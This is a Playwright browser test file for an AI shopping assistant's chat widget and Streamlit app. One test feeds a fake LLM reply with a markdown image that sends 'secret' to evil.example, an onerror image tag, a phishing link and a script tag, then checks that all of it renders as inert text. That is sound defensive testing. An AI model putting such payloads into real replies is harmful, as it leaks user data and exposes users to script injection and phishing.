"""Real Chromium (Playwright) against the served UIs on the real assistant and the H&M sample store: the
embeddable widget on ``/demo`` (uvicorn in a background thread) and the Streamlit app (``streamlit run``
in a child process). Screenshots go to ``artifacts/screenshots/``."""

from __future__ import annotations

import re

import httpx
import pytest
from ui_fixtures import (BLACK_DRESS_ID, CHROMIUM, CHROMIUM_ARGS, SCREENSHOTS, ServerThread, StreamlitServer, hm_photo,  # noqa: F401
    real_assistant, settings_env)

pytestmark = pytest.mark.browser

LOADED = "img => img.complete && img.naturalWidth > 0"


@pytest.fixture(scope="module")
def browser():
    if not CHROMIUM.exists():
        pytest.fail(f"Chromium is missing at {CHROMIUM}; install it with `apt-get install -y chromium` "
                    "(Debian's package; never `playwright install`)")
    from playwright.sync_api import sync_playwright

    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        yield browser
        browser.close()


@pytest.fixture()
def api_server(hm_settings, real_assistant):
    from atelier.ui.api import create_app

    server = ServerThread(create_app(assistant=real_assistant, settings=hm_settings)).start()
    yield server
    server.stop()


def shadow_eval(page, script: str):
    """Evaluate ``script`` with ``root`` bound to the widget's shadow root."""
    return page.evaluate(f"() => {{ const root = document.querySelector('atelier-widget').shadowRoot; {script} }}")


def widget_card_ids(page, message: int) -> list[str]:
    return shadow_eval(page, f"""
        const bots = root.querySelectorAll('.msg.bot');
        return [...bots[{message}].querySelectorAll('.card')].map(c => c.dataset.productId);""")


def wait_widget_reply(page, message: int) -> None:
    """Wait until bot message ``message`` is finished and shows product photos that really loaded."""
    page.wait_for_function(f"""() => {{
        const root = document.querySelector('atelier-widget').shadowRoot;
        const bot = root.querySelectorAll('.msg.bot')[{message}];
        if (!bot || bot.querySelector('.status')) return false;
        const imgs = [...bot.querySelectorAll('.card img')];
        return imgs.length > 0 && imgs.every(img => img.complete && img.naturalWidth > 0);
    }}""", timeout=60_000)


def test_widget_on_the_demo_page(browser, api_server, hm_sample):
    page = browser.new_page(viewport={"width": 1280, "height": 860})
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.on("console", lambda msg: errors.append(msg.text) if "Content Security Policy" in msg.text else None)
    page.goto(api_server.url + "/demo")
    assert "script-src 'self' 'sha256-" in httpx.get(api_server.url + "/demo").headers["content-security-policy"]
    bubble = page.locator("atelier-widget >> .bubble")
    assert bubble.get_attribute("aria-label") == "Open the Atelier shopping assistant"

    # Host CSS does not reach into the widget, and the widget's CSS does not reach the host page.
    styles = shadow_eval(page, """
        const s = el => getComputedStyle(el);
        return {bubble: s(root.querySelector('.bubble')).backgroundColor,
                panelFont: s(root.querySelector('.panel')).fontFamily,
                sendBorder: s(root.querySelector('.send')).borderStyle};""")
    assert styles["bubble"] == "rgb(17, 17, 17)"
    assert "Georgia" not in styles["panelFont"] and styles["sendBorder"] != "dashed"
    host = page.evaluate("""() => ({button: getComputedStyle(document.querySelector('.host-button')).backgroundColor,
                                   card: getComputedStyle(document.querySelector('.host-card')).borderTopColor})""")
    assert host == {"button": "rgb(255, 105, 180)", "card": "rgb(128, 0, 128)"}

    # Keyboard: the bubble is focusable, Enter opens it and focuses the message box, Esc closes it.
    bubble.focus()
    page.keyboard.press("Enter")
    assert bubble.get_attribute("aria-expanded") == "true"
    assert shadow_eval(page, "return root.activeElement && root.activeElement.id") == "atelier-input"
    page.keyboard.press("Escape")
    assert bubble.get_attribute("aria-expanded") == "false"
    assert shadow_eval(page, "return root.activeElement && root.activeElement.className") == "bubble"
    page.keyboard.press("Enter")

    # A message streams text and shows product cards with loaded photos.
    shadow_eval(page, """
        window.__textUpdates = 0;
        new MutationObserver(records => {  // one record per streamed piece, even when a read brings several
                window.__textUpdates += records.filter(r => r.target.classList && r.target.classList.contains('text')).length;
            }).observe(root.querySelector('.log'),
            {subtree: true, characterData: true, childList: true});""")
    page.keyboard.type("black dress")
    page.keyboard.press("Enter")
    wait_widget_reply(page, 0)
    first = widget_card_ids(page, 0)
    assert len(first) >= 3 and all(i in hm_sample for i in first)
    reply = shadow_eval(page, "return root.querySelectorAll('.msg.bot')[0].querySelector('.text').textContent")
    assert reply.strip() and page.evaluate("window.__textUpdates") > 3
    metas = shadow_eval(page, "return [...root.querySelectorAll('.msg.bot')[0].querySelectorAll('.card .meta')]"
                              ".map(m => m.textContent)")
    assert len(metas) == len(first) and all("black" in m and "dress" in m for m in metas)
    page.screenshot(path=str(SCREENSHOTS / "widget-desktop.png"))

    # The memory bar shows what is remembered; the × on a chip forgets it, on the server too.
    chips = "return [...root.querySelectorAll('.memory .chip span')].map(s => s.textContent)"
    assert {"black", "dress"} <= set(shadow_eval(page, chips))
    page.locator("atelier-widget >> .memory button[aria-label='Forget colour: black']").click()
    page.wait_for_function("""() => !document.querySelector('atelier-widget').shadowRoot
        .querySelector(".memory button[aria-label='Forget colour: black']")""", timeout=10_000)
    assert "dress" in shadow_eval(page, chips)
    session = page.evaluate("() => JSON.parse(Object.values(sessionStorage)[0])")
    memory = httpx.get(f"{api_server.url}/v1/sessions/{session['session_id']}",
                       headers={"Authorization": f"Bearer {session['token']}"}).json()["memory"]
    assert "colour" not in memory["constraints"]["must"] and memory["constraints"]["must"]["category"] == ["dress"]

    # Photo upload: the real H&M photo goes up as multipart and new cards come back.
    page.locator("atelier-widget >> input[type=file]").set_input_files(str(hm_photo(BLACK_DRESS_ID)))
    assert page.locator("atelier-widget >> .attachment").is_visible()
    page.locator("atelier-widget >> textarea").fill("something like this")
    page.locator("atelier-widget >> .send").click()
    wait_widget_reply(page, 1)
    assert shadow_eval(page, "return root.querySelectorAll('.msg.user img').length") == 1
    uploaded = widget_card_ids(page, 1)
    assert uploaded and all(i in hm_sample for i in uploaded)
    page.screenshot(path=str(SCREENSHOTS / "widget-upload.png"))

    # "More like this" on the first card of the first answer brings different products.
    page.locator("atelier-widget >> .msg.bot >> nth=0").locator(".card .more").first.click()
    wait_widget_reply(page, 2)
    more = widget_card_ids(page, 2)
    assert more and first[0] not in more and more != first
    page.screenshot(path=str(SCREENSHOTS / "widget-more-like-this.png"))
    assert not errors, errors
    page.close()


def test_widget_shows_an_llm_attack_as_text_and_loads_nothing(browser, api_server):
    """A reply carrying a markdown image, a link and raw HTML (what grounding would cut, sent here unfiltered
    by a fake endpoint) is shown as inert text: no element is created and no request leaves for its host."""
    import json

    attack = ("![x](http://evil.example/leak.png?q=secret) <img src=http://evil.example/i.png onerror=alert(1)> "
              "[click](http://evil.example/phish) <script>alert(2)</script>")
    events = [("text_delta", {"type": "text_delta", "text": attack}), ("done", {"type": "done", "session_id": "x"})]
    body = "".join(f"event: {name}\ndata: {json.dumps(data)}\n\n" for name, data in events)
    page = browser.new_page()
    leaked: list[str] = []
    page.route("**/*", lambda route: (leaked.append(route.request.url), route.abort())
               if "evil.example" in route.request.url else route.continue_())
    page.route("**/v1/sessions/*/messages", lambda route: route.fulfill(
        status=200, body=body, headers={"Content-Type": "text/event-stream"}))
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.goto(api_server.url + "/demo")
    page.locator("atelier-widget >> .bubble").click()
    page.locator("atelier-widget >> textarea").fill("black dress")
    page.locator("atelier-widget >> .send").click()
    page.wait_for_function("""() => {
        const bot = document.querySelector('atelier-widget').shadowRoot.querySelector('.msg.bot .text');
        return bot && bot.textContent.includes('evil.example'); }""", timeout=30_000)
    shown = shadow_eval(page, """const bot = root.querySelector('.msg.bot');
        return {text: bot.querySelector('.text').textContent, elements: bot.querySelectorAll('img, a, script').length};""")
    page.wait_for_timeout(500)
    assert shown["elements"] == 0 and "<img" in shown["text"]
    assert not leaked and not dialogs
    page.close()


def test_widget_on_a_phone(browser, api_server):
    context = browser.new_context(viewport={"width": 390, "height": 844}, is_mobile=True, has_touch=True,
                                  device_scale_factor=2)
    page = context.new_page()
    page.goto(api_server.url + "/demo")
    page.locator("atelier-widget >> .bubble").click()
    box = page.locator("atelier-widget >> .panel").bounding_box()
    assert box == {"x": 0, "y": 0, "width": 390, "height": 844}
    page.locator("atelier-widget >> textarea").fill("red sweater")
    page.keyboard.press("Enter")
    wait_widget_reply(page, 0)
    columns = shadow_eval(page, "return getComputedStyle(root.querySelector('.cards')).gridTemplateColumns")
    assert len(columns.split()) == 2
    page.screenshot(path=str(SCREENSHOTS / "widget-phone.png"))
    page.locator("atelier-widget >> .close").click()
    assert page.locator("atelier-widget >> .bubble").is_visible()
    context.close()


@pytest.fixture()
def streamlit_server(hm_settings):
    server = StreamlitServer(settings_env(hm_settings)).start()
    yield server
    server.stop()


def streamlit_card_ids(page, message: int) -> list[str]:
    classes = page.eval_on_selector_all(f"[class*='st-key-card-{message}-']", "els => els.map(e => e.className)")
    return [re.search(rf"st-key-card-{message}-(\S+)", c).group(1) for c in classes]


def wait_streamlit_cards(page, message: int) -> None:
    page.wait_for_function(f"""() => {{
        const imgs = [...document.querySelectorAll("[class*='st-key-card-{message}-'] img")];
        return imgs.length > 0 && imgs.every(img => img.complete && img.naturalWidth > 0);
    }}""", timeout=90_000)


def show(locator) -> None:
    """Scroll Streamlit's main pane so ``locator`` starts at the top (screenshots show a reply, not its end)."""
    for _ in range(2):
        locator.evaluate("el => el.scrollIntoView({block: 'start'})")
        locator.page.wait_for_timeout(400)


def streamlit_send(page, text: str) -> None:
    box = page.locator("[data-testid='stChatInput'] textarea")
    box.fill(text)
    box.press("Enter")


def test_streamlit_app_in_chromium(browser, streamlit_server, hm_sample):
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    page.goto(streamlit_server.url)
    page.wait_for_selector("[data-testid='stChatInput'] textarea", timeout=180_000)
    streamlit_send(page, "black dress")
    wait_streamlit_cards(page, 1)
    messages = page.locator("[data-testid='stChatMessage']")
    assert messages.nth(0).inner_text().strip().endswith("black dress")
    reply = messages.nth(1).inner_text()
    first = streamlit_card_ids(page, 1)
    assert len(first) >= 3 and all(i in hm_sample for i in first)
    assert "black · dress" in reply and "More like this" in reply
    sidebar = page.locator("[data-testid='stSidebar']")
    assert sidebar.get_by_role("button", name=re.compile("colour: black")).count() == 1
    show(messages.nth(1))
    page.screenshot(path=str(SCREENSHOTS / "streamlit-message.png"))

    page.locator("[data-testid='stChatInput'] input[type=file]").set_input_files(str(hm_photo(BLACK_DRESS_ID)))
    streamlit_send(page, "something like this")
    wait_streamlit_cards(page, 3)
    assert page.locator("[data-testid='stChatMessage']").nth(2).locator("img").count() == 1
    assert streamlit_card_ids(page, 3)
    show(page.locator("[data-testid='stChatMessage']").nth(2))
    page.screenshot(path=str(SCREENSHOTS / "streamlit-upload.png"))

    page.locator(f".st-key-more-1-{first[0]} button").click()
    wait_streamlit_cards(page, 5)
    more = streamlit_card_ids(page, 5)
    assert more and first[0] not in more and more != first
    assert not page.locator("[data-testid='stException']").count()
    show(page.locator("[data-testid='stChatMessage']").nth(4))
    page.screenshot(path=str(SCREENSHOTS / "streamlit-more-like-this.png"))
    page.close()
